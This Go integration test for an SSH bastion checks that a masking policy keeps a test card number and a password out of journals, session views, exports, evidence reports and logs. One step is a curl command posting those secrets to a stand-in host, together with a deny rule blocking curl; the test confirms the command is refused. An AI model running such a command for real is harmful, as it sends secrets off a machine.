package main

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/bastionhq/bastion/bastion/sshdtest"
	"github.com/bastionhq/bastion/certauth/oidc/oidctest"
)

// The values an agent sends: a card number (it passes Luhn) and a
// password. Neither may be kept or shown anywhere.
const (
	sentCard     = "4111111111111111"
	sentPassword = "hunter2"
	sentLine     = "card " + sentCard + " password=" + sentPassword
)

// TestMaskingWhatTheAgentSends is issue 13's must-show with real OpenSSH,
// a real serve process, a command target and a real sshd target, under a
// role with masking = "all": a card number and a password sent in an exec
// command, pasted in one write into a -tt session, in an environment
// variable, in a refused command and in a grant's reason. The targets receive the bytes as sent (a
// SHA-256 taken on the target); the journal's files, searched byte-wise,
// hold neither value, and neither do sessions show, search, play
// --show-input, export (asciicast with input, and bundle) and the
// evidence report, nor serve's log, where an operator's kill and
// revocation reasons (the card split by tabs) are masked too; the journal
// verifies.
func TestMaskingWhatTheAgentSends(t *testing.T) {
	t.Parallel()
	sshBin := sshdtest.Need(t, "ssh")
	ctx := context.Background()
	login := "root"
	if u, err := user.Current(); err == nil {
		login = u.Username
	}
	m := oidctest.StartMock(t, nil)
	dir := t.TempDir()
	home, trust := rigHome(t, dir, false)
	target := sshdtest.Start(t, "TrustedUserCAKeys "+trust)
	targetPub, err := os.ReadFile(target.HostKey + ".pub")
	if err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(dir, "bastion.hcl")
	if err := os.WriteFile(cfg, []byte(fmt.Sprintf(`
home = %q
api { listen = "127.0.0.1:0" }
ssh { listen = "127.0.0.1:0" }
identity_provider "corp" {
  issuer    = %q
  audiences = [%q]
}
identity "agents" {
  providers = ["corp"]
  subjects  = ["agent-*"]
}
identity "dbas" {
  providers = ["corp"]
  subjects  = ["bob"]
}
role "agents" {
  identities = ["agents"]
  targets    = ["box", "db"]
  logins     = [%[4]q]
  pty        = true
  shell      = true
  masking    = "all"
  commands { deny = ["curl **"] }
}
role "db-grant" {
  identities = ["agents"]
  targets    = ["db"]
  logins     = ["postgres"]
  access     = "grant"
  approval { approvers = ["dbas"] }
}
target "db" {
  ssh      = %[5]q
  host_key = %[6]q
}
target "box" { command = ["/bin/sh"] }
`, home, m.Issuer(), m.ClientID, login, target.Addr, strings.TrimSpace(string(targetPub)))), 0o600); err != nil {
		t.Fatal(err)
	}
	var serveLog lockedBuffer
	sp := startServeProcess(t, cfg, true, &serveLog)
	port := sp.ssh[strings.LastIndexByte(sp.ssh, ':')+1:]

	// The agent's key and certificate, through the real exchange.
	key, known := agentKey(t, m, sp, dir, "agent-1")
	sshRun := func(stdin string, args ...string) (string, string, error) {
		base := []string{"-F", "none", "-i", key, "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
			"-o", "StrictHostKeyChecking=yes", "-o", "UserKnownHostsFile=" + known, "-o", "LogLevel=ERROR", "-p", port}
		cmd := exec.Command(sshBin, append(base, args...)...)
		cmd.Stdin = strings.NewReader(stdin)
		var out, errOut strings.Builder
		cmd.Stdout, cmd.Stderr = &out, &errOut
		err := cmd.Run()
		return out.String(), errOut.String(), err
	}

	sum := sha256.Sum256([]byte(sentLine))
	want := hex.EncodeToString(sum[:])
	hashCmd := "printf %s '" + sentLine + "' | sha256sum"
	for _, tgt := range []string{"box", "db"} {
		dest := login + "@" + tgt + "@127.0.0.1"
		// In an exec command (and, for the SSH target, which is passed
		// LC_* variables, in the environment).
		out, errOut, err := sshRun("", "-o", "SetEnv=LC_PAYMENT="+sentCard, dest, hashCmd)
		if err != nil || !strings.Contains(out, want) {
			t.Fatalf("exec on %s: %v: the target's SHA-256 is not that of what was sent: %q %q", tgt, err, out, errOut)
		}
		// Pasted into a terminal in one write.
		out, errOut, err = sshRun(hashCmd+"; exit\r", "-tt", dest, "sh")
		if err != nil || !strings.Contains(out, want) {
			t.Fatalf("paste on %s: %v: the target's SHA-256 is not that of what was sent: %q %q", tgt, err, out, errOut)
		}
		for _, v := range []string{sentCard, sentPassword} {
			if strings.Contains(out, v) {
				t.Errorf("paste on %s: the echo shows %q: %q", tgt, v, out)
			}
		}
	}
	// Refused by policy: the refusal is journaled, masked.
	if _, errOut, err := sshRun("", login+"@box@127.0.0.1", "curl --data '"+sentLine+"' https://example.invalid/"); err == nil || !strings.Contains(errOut, "denied") {
		t.Fatalf("a denied command ran: %v %q", err, errOut)
	}
	// In a grant's reason.
	tokFile := filepath.Join(dir, "agent.token")
	if err := os.WriteFile(tokFile, []byte(mockToken(t, m, "agent-1")), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errOut := cli(ctx, home, "grants", "request", "--server", sp.api, "--ca-fingerprint", sp.fingerprint, "--token-file", tokFile,
		"--target", "db", "--login", "postgres", "--duration", "30m", "--reason", "refund "+sentLine, "--json")
	if code != 0 {
		t.Fatalf("grants request: %d %s %s", code, out, errOut)
	}
	if strings.Contains(out, sentCard) || strings.Contains(out, sentPassword) || !strings.Contains(out, "************1111") {
		t.Errorf("the grant's reason comes back unmasked: %s", out)
	}

	// An operator's reasons, with the card's groups split by tabs: a
	// kill of a live session and a revocation, through the admin socket.
	tabbed := strings.Join([]string{sentCard[:4], sentCard[4:8], sentCard[8:12], sentCard[12:]}, "\t")
	live := exec.Command(sshBin, "-F", "none", "-i", key, "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
		"-o", "StrictHostKeyChecking=yes", "-o", "UserKnownHostsFile="+known, "-o", "LogLevel=ERROR", "-p", port,
		login+"@box@127.0.0.1", "echo started; exec sleep 60")
	liveOut, err := live.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var liveErr strings.Builder
	live.Stderr = &liveErr
	if err := live.Start(); err != nil {
		t.Fatal(err)
	}
	if _, err := liveOut.Read(make([]byte, 8)); err != nil {
		t.Fatal(err)
	}
	_, out, _ = cli(ctx, home, "sessions", "list", "--json")
	var all []struct {
		ID    string `json:"id"`
		State string `json:"state"`
	}
	json.Unmarshal([]byte(out), &all)
	var liveID string
	for _, s := range all {
		if s.State == "live" {
			liveID = s.ID
		}
	}
	if code, out, errOut := cli(ctx, home, "sessions", "kill", "--reason", "refund card "+tabbed, liveID); code != 0 {
		t.Fatalf("sessions kill %q: %d %s %s", liveID, code, out, errOut)
	}
	live.Wait()
	if msg := liveErr.String(); !strings.Contains(msg, "ended by an operator: refund card **** **** **** 1111") {
		t.Errorf("the killed client read %q", msg)
	}
	if code, out, errOut := cli(ctx, home, "certs", "revoke", "--identity", "agent-1@corp", "--reason", "leaked "+tabbed+" password="+sentPassword); code != 0 {
		t.Fatalf("certs revoke: %d %s %s", code, out, errOut)
	}

	// Every view, while serve runs.
	var views []string
	code, out, errOut = cli(ctx, home, "sessions", "list", "--json")
	if code != 0 {
		t.Fatalf("sessions list: %s", errOut)
	}
	var list []struct {
		ID string `json:"id"`
	}
	if err := json.Unmarshal([]byte(out), &list); err != nil || len(list) != 5 {
		t.Fatalf("sessions list: %v: %d sessions, want 5: %s", err, len(list), out)
	}
	views = append(views, out)
	bundles := filepath.Join(dir, "bundles")
	os.Mkdir(bundles, 0o700)
	for _, s := range list {
		for _, args := range [][]string{
			{"sessions", "show", s.ID},
			{"sessions", "show", "--json", s.ID},
			{"play", "--show-input", "--speed", "max", s.ID},
			{"export", "--format", "asciicast", "--input", s.ID},
			{"export", "--format", "bundle", "--out", filepath.Join(bundles, s.ID+".json"), s.ID},
		} {
			code, out, errOut := cli(ctx, home, args...)
			if code != 0 {
				t.Fatalf("%s: exit %d: %s", strings.Join(args, " "), code, errOut)
			}
			views = append(views, out, errOut)
		}
		b, err := os.ReadFile(filepath.Join(bundles, s.ID+".json"))
		if err != nil {
			t.Fatal(err)
		}
		views = append(views, string(b))
	}
	for _, pat := range []string{sentCard, sentPassword, "password=" + sentPassword} {
		code, out, errOut := cli(ctx, home, "sessions", "search", "--in", "all", pat)
		if strings.TrimSpace(out) != "" {
			t.Errorf("sessions search %q matches the clear text (exit %d): %s", pat, code, out)
		}
		views = append(views, out, errOut)
	}
	// The masked text is what search finds.
	if code, out, errOut := cli(ctx, home, "sessions", "search", "--in", "all", "************1111"); code != 0 || strings.Count(out, "\n") < 4 {
		t.Errorf("sessions search of the masked card: exit %d, %q %q", code, out, errOut)
	}
	report := filepath.Join(dir, "report")
	day := time.Now().UTC()
	code, out, errOut = cli(ctx, home, "evidence", "--from", day.Add(-time.Hour).Format(time.RFC3339), "--to", day.Add(time.Hour).Format(time.RFC3339), "--out", report)
	if code != 0 {
		t.Fatalf("evidence: exit %d: %s %s", code, out, errOut)
	}
	views = append(views, out, errOut)
	for _, f := range []string{"evidence.html", "evidence.json"} {
		b, err := os.ReadFile(filepath.Join(report, f))
		if err != nil {
			t.Fatal(err)
		}
		views = append(views, string(b))
	}
	for i, v := range views {
		for _, s := range []string{sentCard, sentPassword} {
			if strings.Contains(v, s) {
				t.Errorf("view %d shows %q:\n%s", i, s, v)
			}
		}
	}
	// What was masked is said: mask frames of the input, of the exec
	// command and of the environment.
	masks := map[string]bool{}
	for _, s := range list {
		_, out, _ := cli(ctx, home, "export", "--format", "asciicast", "--input", s.ID)
		for _, m := range regexp.MustCompile(`masked: [a-z-]+ x\d+ \((\w+)\)`).FindAllStringSubmatch(out, -1) {
			masks[m[1]] = true
		}
	}
	for _, st := range []string{"exec", "input", "env"} {
		if !masks[st] {
			t.Errorf("no mask frame of the %s: %v", st, masks)
		}
	}

	// The journal's files, once serve has stopped, and with it running.
	check := func(when string) {
		t.Helper()
		files, _ := filepath.Glob(filepath.Join(home, "journal.db*"))
		if !slices.ContainsFunc(files, func(f string) bool { return strings.HasSuffix(f, "journal.db") }) {
			t.Fatalf("%s: no journal: %v", when, files)
		}
		for _, f := range files {
			if fi, err := os.Lstat(f); err == nil && !fi.Mode().IsRegular() {
				continue // the access socket, journal.db.sock
			}
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			for _, s := range []string{sentCard, sentPassword, tabbed} {
				if strings.Contains(string(b), s) {
					t.Errorf("%s: %s holds %q", when, filepath.Base(f), s)
				}
			}
		}
	}
	check("while serve runs")
	sp.cmd.Process.Signal(syscall.SIGTERM)
	sp.cmd.Wait()
	check("after serve stopped")
	// serve's log, at info, says what happened, never the values.
	logged := serveLog.String()
	for _, s := range []string{"ssh session killed", "certificates revoked", "ssh request denied by policy"} {
		if !strings.Contains(logged, s) {
			t.Errorf("serve's log does not say %q", s)
		}
	}
	for _, s := range []string{sentCard, sentPassword, sentCard[:4] + "\t", sentCard[:4] + " " + sentCard[4:8]} {
		if strings.Contains(logged, s) {
			t.Errorf("serve's log holds %q", s)
		}
	}
	if code, out, errOut := cli(ctx, home, "verify"); code != 0 {
		t.Fatalf("verify: exit %d: %s %s", code, out, errOut)
	}
}
